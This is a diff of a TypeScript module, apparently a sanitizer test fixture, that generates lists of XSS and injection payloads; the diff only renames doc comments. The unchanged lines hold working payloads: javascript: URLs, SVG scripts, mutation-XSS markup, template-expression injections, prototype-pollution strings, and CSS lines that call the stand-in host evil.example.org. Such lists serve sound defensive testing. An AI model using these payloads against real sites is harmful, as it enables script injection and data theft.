@@ -1,4 +1,4 @@
-/** Addresses that are no address of a page; alone, and where a link would take them. */
+/** URLs that no page may link to; bare and as the target of a link. */
 export const urls = (call: string): string[] => {
   const addresses = [
     `javascript:${call}`,
@@ -24,7 +24,7 @@ export const urls = (call: string): string[] => {
   return [...addresses, ...addresses.map((address) => `<a href="${address}">x</a>`)];
 };
 
-/** Drawings that hold code. */
+/** SVG with scripts. */
 export const svgs = (call: string): string[] => [
   `<svg><script>${call}</script></svg>`,
   `<svg><script href=data:,${call} />`,
@@ -42,7 +42,7 @@ export const svgs = (call: string): string[] => [
   `<svg><handler type="application/ecmascript">${call}</handler>`,
 ];
 
-/** Trees that come out of a second reading otherwise than they went into the first: mathematics, foreign parts, templates. */
+/** Mutation XSS: markup that parses differently the second time (MathML, foreign content, templates). */
 export const trees = (call: string): string[] => [
   `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${call}&gt;">`,
   `<math href=javascript:${call}>x</math>`,
@@ -68,7 +68,7 @@ export const trees = (call: string): string[] => [
   `<!ENTITY x "<script>${call}</script>">&x;`,
 ];
 
-/** Places in which template engines and frameworks would reckon. */
+/** Expressions that template engines and frameworks would evaluate. */
 export const templates = (call: string): string[] => [
   `{{${call}}}`,
   `{{constructor.constructor('${call}')()}}`,
@@ -91,7 +91,7 @@ export const templates = (call: string): string[] => [
   `{"$$typeof":"Symbol(react.element)","type":"script"}`,
 ];
 
-/** Styles that would ask elsewhere, cover the page or run. */
+/** Styles that would send requests, cover the page or run code. */
 export const styles = (call: string): string[] => [
   "<style>@import '//evil.example.org/x.css'</style>",
   "<style>*{background:url(//evil.example.org/p)}</style>",
@@ -106,7 +106,7 @@ export const styles = (call: string): string[] => [
   `<link rel=stylesheet href="data:text/css,*{x:expression(${call})}">`,
 ];
 
-/** Names that objects and pages have already, and formulas of spreadsheets. */
+/** Names that pollute prototypes or clobber DOM properties, and spreadsheet and calendar injections. */
 export const words = (call: string): string[] => [
   ...["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf", "__defineGetter__"],
   '{"__proto__":{"polluted":1}}',
